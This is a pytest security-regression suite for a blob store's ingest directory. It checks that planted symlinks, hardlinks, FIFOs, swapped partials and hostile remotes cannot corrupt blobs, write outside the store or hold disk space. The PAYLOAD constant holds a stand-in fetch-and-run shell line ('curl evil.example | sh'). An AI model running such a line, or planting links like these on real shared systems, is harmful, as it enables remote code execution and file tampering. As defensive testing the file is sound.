"""Partials as an attacker leaves them (issue 11, findings 1a, 2, 9 and 11): each test is the attack.

In a shared store every member may put any name in ingest/ (group-writable,
no sticky bit), and a remote chooses the sizes it claims and the bytes it
sends before it breaks off. Neither may make a later, honest fetch write
outside the store, publish bytes beyond a digest's, blame the wrong remote,
or hold disk space for long.
"""

from __future__ import annotations

import hashlib
import os
import stat
import subprocess
import sys
import time
import types
from pathlib import Path

import pytest

from store import Store
from store.errors import IntegrityError
from store.local.blobs import BlobStore
from store.local.ingest import IngestWriter
from store.local.layout import StoreLayout
from store.oci.digest import Digest
from tests.support.cli import RETRY_NOTICE, assert_error
from tests.support.fault_server import Fault, oci_layout

REAL = hashlib.sha256(b"real").digest() * 3125  # 100,000 bytes
PAYLOAD = b"#!/bin/sh\ncurl evil.example | sh\n".ljust(900_000, b"#")
CUT = 900_000  # where the hostile remote breaks off: the real bytes and most of the payload sent


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _dead_pid() -> int:
    """The pid of a process that has exited and been reaped."""
    child = subprocess.Popen([sys.executable, "-c", ""])
    child.wait()
    return child.pid


def _planted_name(layout: StoreLayout, data: bytes) -> Path:
    """A name in ingest/ that looks like the partial of a dead writer of ``data``'s blob."""
    return layout.ingest / f"{_sha(data)}-{_dead_pid()}-{os.urandom(8).hex()}.tmp"


def _partials(layout: StoreLayout) -> list[Path]:
    return sorted(layout.ingest.glob("*.tmp"))


# -- 1a: a planted link is never written through ---------------------------------------


@pytest.mark.parametrize("link", ["symlink", "hardlink"])
def test_a_link_planted_as_a_dead_writers_partial_is_not_written_through(link, fault_server, store: Store, tmp_path, run_cli) -> None:
    data = os.urandom(300_000)
    layout = oci_layout({"w.bin": data})
    victim = tmp_path / "victim-profile"
    victim.write_bytes(b"export PATH=$HOME/bin:$PATH\n")
    victim.chmod(0o644)
    planted = _planted_name(store.layout, data)
    if link == "symlink":
        planted.symlink_to(victim)
    else:
        os.link(victim, planted)

    result = run_cli("fetch", "--remote", fault_server(layout).url, layout.ref_name)

    assert result.code == 0, result.err
    assert victim.read_bytes() == b"export PATH=$HOME/bin:$PATH\n"
    assert stat.S_IMODE(victim.stat().st_mode) == 0o644
    blob = store.layout.blob(Digest(_sha(data)))
    st = os.lstat(blob)
    assert stat.S_ISREG(st.st_mode) and st.st_nlink == 1 and st.st_ino != victim.stat().st_ino
    assert blob.read_bytes() == data


def test_a_live_writers_partial_is_never_adopted(fault_server, store: Store, run_cli) -> None:
    """Adoption takes a partial only from a writer that is gone (or silent for a long time): the
    blob's lock would keep two fetchers apart, but where locks lie, a running writer's file must
    still not be shared. Here the writer holds no lock at all and is alive: it is left alone."""
    data = os.urandom(300_000)
    layout = oci_layout({"w.bin": data})
    writer = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        partial = store.layout.ingest / f"{_sha(data)}-{writer.pid}-{os.urandom(8).hex()}.tmp"
        partial.write_bytes(data[:100_000])
        result = run_cli("fetch", "--remote", fault_server(layout).url, layout.ref_name)
        assert result.code == 0, result.err
        assert partial.read_bytes() == data[:100_000], "a running writer's partial was taken over"
    finally:
        writer.kill()
        writer.wait()
    assert store.layout.blob(Digest(_sha(data))).read_bytes() == data


def test_a_partial_swapped_while_it_is_adopted_is_not_adopted(fault_server, store: Store, monkeypatch) -> None:
    """Adoption renames a dead writer's partial to a name of its own, opens it, then checks that
    the name still names the file opened: another member may have renamed a file of theirs onto
    it in between. Forced into that gap here, the adopter leaves that name and starts afresh."""
    from store.local import ingest as ingest_module

    data = os.urandom(300_000)
    layout = oci_layout({"w.bin": data})
    _planted_name(store.layout, data).write_bytes(data[:100_000])
    real, swapped = ingest_module.open_regular, []

    def open_then_swap(path: Path, what: str, *args, **kwargs):
        opened = real(path, what, *args, **kwargs)
        if what == "a partial" and not swapped:
            theirs = path.with_name("theirs")
            theirs.write_bytes(b"another member's file")
            os.rename(theirs, path)
            swapped.append(path)
        return opened

    monkeypatch.setattr(ingest_module, "open_regular", open_then_swap)
    fetched = store.fetch(layout.ref_name, remotes=[fault_server(layout).url])
    assert swapped and (fetched.path / "w.bin").read_bytes() == data
    assert not list(store.layout.ingest.iterdir())


def test_a_journal_planted_as_a_link_to_a_fifo_does_not_hang_a_fetch(fault_server, store: Store, tmp_path, run_cli) -> None:
    # Every fetch reads the journals in ingest/ (the space check): a FIFO blocks its reader for ever.
    data = os.urandom(300_000)
    layout = oci_layout({"w.bin": data})
    os.mkfifo(tmp_path / "fifo")
    planted = _planted_name(store.layout, data)
    StoreLayout.journal_of(planted).symlink_to(tmp_path / "fifo")
    planted.write_bytes(b"")

    result = run_cli("fetch", "--remote", fault_server(layout).url, layout.ref_name, timeout=30)

    assert result.code == 0, result.err
    assert store.layout.blob(Digest(_sha(data))).read_bytes() == data


# -- 2: bytes beyond the digest never reach the blob ----------------------------------------


def test_a_partial_left_by_a_remote_that_claimed_more_does_not_reach_the_blob(fault_server, store: Store, run_cli) -> None:
    # The hostile remote claims 1,000,000 bytes for the 100,000-byte digest, sends the real
    # bytes and a payload, and breaks off: its partial is kept for a resume.
    hostile = fault_server(oci_layout({"w.bin": REAL}, chunks=False, sizes={"w.bin": 1_000_000}))
    hostile.fail(Fault(extra=PAYLOAD, close_after=CUT, linger=0.3))
    assert_error(run_cli("fetch", "--retries", "0", "--remote", hostile.url, "faulty/model:v1"), 4)
    assert _partials(store.layout)

    honest = fault_server(oci_layout({"w.bin": REAL}, chunks=False))
    result = run_cli("fetch", "--remote", honest.url, "faulty/model:v1")

    assert result.code == 0, result.err
    blob = store.layout.blob(Digest(_sha(REAL)))
    assert blob.stat().st_size == len(REAL)
    assert blob.read_bytes() == REAL
    assert (Path(result.out.strip()) / "w.bin").read_bytes() == REAL


def test_a_partial_left_by_a_url_that_claimed_more_does_not_reach_the_blob(fault_server, store: Store, run_cli) -> None:
    hostile = fault_server(extra={"/w.bin": REAL}).fail(Fault(path="/w.bin", extra=PAYLOAD, close_after=CUT, linger=0.3, times=None))
    args = ("fetch", "--retries", "0", "--sha256", _sha(REAL), "--url")
    assert_error(run_cli(*args, f"{hostile.url}/w.bin", "file:v1"), 4)
    assert _partials(store.layout)

    honest = fault_server(extra={"/w.bin": REAL})
    result = run_cli(*args, f"{honest.url}/w.bin", "file:v1")

    assert result.code == 0, result.err
    blob = store.layout.blob(Digest(_sha(REAL)))
    assert blob.stat().st_size == len(REAL)
    assert blob.read_bytes() == REAL


def test_commit_refuses_a_partial_longer_than_the_bytes_it_hashed(store: Store) -> None:
    digest = Digest(_sha(REAL))
    writer = IngestWriter.for_blob(store.layout, digest, len(REAL), stale_after=3600)
    writer.write_at(0, REAL, checked=True)
    with open(writer.path, "ab") as f:  # what a partial kept from a larger claim held
        f.write(PAYLOAD)
    with pytest.raises(IntegrityError, match="holds 1000000 bytes"):
        writer.commit(digest, len(REAL))
    assert not writer.path.exists()


def test_commit_of_a_partial_missing_bytes_says_so_and_keeps_nothing(store: Store) -> None:
    """A download that ends short (a remote that stopped, a journal that claimed too much) is
    refused by what it lacks, not only by a digest that does not match."""
    digest = Digest(_sha(REAL))
    writer = IngestWriter.for_blob(store.layout, digest, len(REAL), stale_after=3600)
    writer.write_at(0, REAL[:60_000], checked=True)
    with pytest.raises(IntegrityError, match="only 60000 of 100000 bytes were written") as raised:
        writer.commit(digest, len(REAL))
    assert raised.value.hint == "run the same command again"
    assert not writer.path.exists() and not list(store.layout.ingest.iterdir())


def test_commit_checks_the_size_given_without_a_digest(store: Store) -> None:
    """fetch --url commits without a digest (it measures the file, whose digest is a person's word)
    but with the size the source stated: bytes of another size are refused and dropped."""
    writer = IngestWriter.for_blob(store.layout, Digest(_sha(REAL)), len(REAL), stale_after=3600)
    writer.write_at(0, REAL, checked=True)
    with pytest.raises(IntegrityError, match=f"expected None \\({len(REAL) + 1} bytes\\)"):
        writer.commit(None, len(REAL) + 1)
    assert not list(store.layout.ingest.iterdir())


def test_publish_refuses_a_name_swapped_after_commit(store: Store, tmp_path) -> None:
    digest = Digest(_sha(REAL))
    writer = IngestWriter.for_blob(store.layout, digest, len(REAL), stale_after=3600)
    writer.write_at(0, REAL, checked=True)
    written = writer.commit(digest, len(REAL))
    victim = tmp_path / "victim"
    victim.write_bytes(REAL + PAYLOAD)
    os.replace(victim, writer.path)  # another member replaces the checked partial's name
    with pytest.raises(IntegrityError):
        BlobStore(store.layout).publish(writer, written)
    assert not store.layout.blob(digest).exists()


def test_publish_refuses_a_checked_partial_that_grew(store: Store) -> None:
    """The same file, but longer than commit checked: its owner (or root, whom 0444 does not stop)
    appended to it after commit. What is past the checked bytes must never reach blobs/."""
    digest = Digest(_sha(REAL))
    writer = IngestWriter.for_blob(store.layout, digest, len(REAL), stale_after=3600)
    writer.write_at(0, REAL, checked=True)
    written = writer.commit(digest, len(REAL))
    with open(writer.path, "ab") as f:
        f.write(PAYLOAD)
    with pytest.raises(IntegrityError, match="no longer the file that was checked"):
        BlobStore(store.layout).publish(writer, written)
    assert not store.layout.blob(digest).exists()


def test_a_present_blob_longer_than_its_descriptor_is_absent_and_replaced(fault_server, store: Store, run_cli) -> None:
    layout = oci_layout({"w.bin": REAL})
    server = fault_server(layout)
    assert run_cli("fetch", "--remote", server.url, layout.ref_name).code == 0
    blob = store.layout.blob(Digest(_sha(REAL)))
    # What an older odai-store published from such a partial: the digest's bytes, then a payload.
    blob.chmod(0o644)
    blob.write_bytes(REAL + PAYLOAD)

    message = assert_error(run_cli("path", layout.ref_name), 3)
    assert "incomplete" in message
    assert_error(run_cli("export", layout.ref_name, str(store.layout.root.parent / "out")), 3)

    result = run_cli("fetch", "--remote", server.url, layout.ref_name)
    assert result.code == 0, result.err
    assert blob.read_bytes() == REAL
    assert run_cli("path", layout.ref_name).code == 0


def test_verify_fast_quarantines_a_blob_longer_than_its_digest(store: Store, tmp_path) -> None:
    (tmp_path / "m").mkdir()
    (tmp_path / "m" / "w.bin").write_bytes(REAL)
    store.add("m:v1", [tmp_path / "m"])
    blob = store.layout.blob(Digest(_sha(REAL)))
    blob.chmod(0o644)
    with open(blob, "ab") as f:
        f.write(PAYLOAD)
    result = store.verify(fast=True)
    assert Digest(_sha(REAL)) in result.report.corrupt
    assert not blob.exists()


# -- 9: a size claim holds little disk, and not for long -------------------------------------


def test_a_claim_of_1_gib_that_sends_64_kib_reserves_little(store: Store) -> None:
    data = os.urandom(64 * 1024)
    writer = IngestWriter.for_blob(store.layout, Digest(_sha(data)), 1 << 30, stale_after=3600)
    writer.write_at(0, data, checked=True)
    writer.suspend()
    (partial,) = _partials(store.layout)
    assert partial.stat().st_blocks * 512 <= (32 << 20) + len(data)


def test_a_write_beyond_the_reservation_reserves_from_there(store: Store) -> None:
    data = os.urandom(64 * 1024)
    writer = IngestWriter.for_blob(store.layout, Digest(_sha(data)), 1 << 30, stale_after=3600)
    writer.write_at(512 << 20, data, checked=True)  # a parallel segment, far into the blob
    writer.suspend()
    (partial,) = _partials(store.layout)
    assert partial.stat().st_blocks * 512 <= 2 * (32 << 20) + len(data)


def test_a_partial_is_dropped_when_every_remote_failed_permanently(fault_server, store: Store, run_cli) -> None:
    layout = oci_layout({"w.bin": REAL})
    server = fault_server(layout).fail(Fault(close_after=50_000, linger=0.3), Fault(status=404, times=None))
    assert_error(run_cli("fetch", "--remote", server.url, layout.ref_name), 3, said=RETRY_NOTICE)
    assert not list(store.layout.ingest.iterdir())


def test_a_partial_is_kept_after_a_transient_failure(fault_server, store: Store, run_cli) -> None:
    layout = oci_layout({"w.bin": REAL})
    server = fault_server(layout).fail(Fault(close_after=50_000, linger=0.3))
    assert_error(run_cli("fetch", "--retries", "0", "--remote", server.url, layout.ref_name), 4)
    assert _partials(store.layout)


def test_gc_partials_reclaims_a_dead_writers_partial(fault_server, store: Store, run_cli) -> None:
    layout = oci_layout({"w.bin": REAL}, sizes={"w.bin": 8 << 20}, chunks=False)
    server = fault_server(layout).fail(Fault(extra=bytes((8 << 20) - len(REAL)), close_after=64 * 1024, linger=0.3))
    assert_error(run_cli("fetch", "--retries", "0", "--remote", server.url, layout.ref_name), 4)
    kept = sorted(store.layout.ingest.iterdir())
    assert kept

    assert run_cli("gc").code == 0
    assert sorted(store.layout.ingest.iterdir()) == kept, "a plain gc keeps it for the next fetch to resume"
    result = run_cli("--json", "gc", "--partials")
    assert result.code == 0, result.err
    assert not list(store.layout.ingest.iterdir())
    assert '"partials": [' in result.out and kept[0].name in result.out


def test_a_fetch_after_a_plain_gc_resumes_the_dead_writers_partial(fault_server, store: Store, run_cli) -> None:
    """gc then resume: gc keeps a dead writer's partial whose blob is absent (it is the resume's data),
    so the next fetch downloads only the rest, and through the Python API as through the CLI."""
    data = os.urandom(3 << 20)
    layout = oci_layout({"w.bin": data}, chunks=False)
    server = fault_server(layout).fail(Fault(close_after=2 << 20, linger=0.3))
    assert_error(run_cli("fetch", "--retries", "0", "--remote", server.url, layout.ref_name), 4)
    served = server.bytes_served
    assert served >= 2 << 20
    assert run_cli("gc").code == 0
    assert store.gc().partials == ()
    fetched = store.fetch(layout.ref_name, remotes=[server.url])
    assert (fetched.path / "w.bin").read_bytes() == data
    assert server.bytes_served - served < (1 << 20) + (64 << 10), "the fetch after gc started again from byte 0"
    assert not list(store.layout.ingest.iterdir())


def test_gc_on_a_disk_short_of_space_reclaims_a_dead_writers_partial(store: Store, monkeypatch) -> None:
    data = os.urandom(1000)
    writer = IngestWriter.for_blob(store.layout, Digest(_sha(data)), 1 << 20, stale_after=3600)
    writer.write_at(0, data, checked=True)
    writer.suspend()
    dead = _planted_name(store.layout, data)  # the same partial, as a writer that died left it
    for path in list(store.layout.ingest.iterdir()):
        path.rename(dead.with_suffix(path.suffix))
    real = os.statvfs(store.layout.root)

    def free(fraction: float) -> None:
        seen = types.SimpleNamespace(f_frsize=real.f_frsize, f_blocks=real.f_blocks, f_bavail=int(real.f_blocks * fraction))
        monkeypatch.setattr(os, "statvfs", lambda path: seen)

    free(0.5)
    assert store.gc().partials == (), "with room to spare, a plain gc keeps it for a resume"
    free(0.05)
    assert len(store.gc().partials) == 2
    assert not list(store.layout.ingest.iterdir())


def test_a_resume_past_the_end_of_a_short_remote_copy_says_so(fault_server, store: Store, run_cli) -> None:
    """A dead writer's partial holds the first 100,000 bytes of a blob the manifest says is larger;
    the remote's copy ends there, so the resume's Range is past its end (HTTP 416): the error says
    the remote's copy is shorter than the manifest, not only the status."""
    size = 200_000
    layout = oci_layout({"w.bin": REAL}, sizes={"w.bin": size}, chunks=False)
    writer = IngestWriter.for_blob(store.layout, Digest(_sha(REAL)), size, stale_after=3600)
    writer.write_at(0, REAL, checked=True)
    writer.suspend()
    dead = _planted_name(store.layout, REAL)
    for path in list(store.layout.ingest.iterdir()):
        path.rename(dead.with_suffix(path.suffix))
    result = run_cli("fetch", "--remote", fault_server(layout).url, layout.ref_name)
    message = assert_error(result, 4)
    assert "is beyond the blob (HTTP 416)" in message and "shorter than the manifest says" in result.err


def test_a_partial_dated_in_the_future_goes_stale(store: Store) -> None:
    # Its writer (this process) runs, so only its age can free it; taken as is, a time in
    # the future would make that age negative for ever.
    data = os.urandom(1000)
    writer = IngestWriter.for_blob(store.layout, Digest(_sha(data)), len(data), stale_after=3600)
    writer.write_at(0, data, checked=True)
    writer.suspend()
    in_a_day = time.time() + 25 * 3600
    for path in store.layout.ingest.iterdir():
        os.utime(path, (in_a_day, in_a_day))
    assert store.gc().partials
    assert not list(store.layout.ingest.iterdir())


# -- 11: a hostile prefix does not get the honest remote blamed ------------------------------


def test_bytes_kept_from_a_hostile_remote_do_not_get_the_honest_one_blamed(fault_server, store: Store, run_cli) -> None:
    data = os.urandom(3_000_000)
    layout = oci_layout({"w.bin": data}, chunks=False)  # no chunk digests: nothing checks a prefix early
    hostile = fault_server(layout).fail(Fault(corrupt=(0, 1000), close_after=1_500_000, linger=0.3))
    assert_error(run_cli("fetch", "--retries", "0", "--remote", hostile.url, layout.ref_name), 4)
    assert _partials(store.layout)

    honest = fault_server(layout)
    result = run_cli("fetch", "--remote", honest.url, layout.ref_name)

    assert result.code == 0, result.err
    assert store.layout.blob(Digest(_sha(data))).read_bytes() == data
    assert "downloading it again" in result.err
    assert honest.served_for(layout.blob_path(data)) == len(data) + (len(data) - 1_500_000)
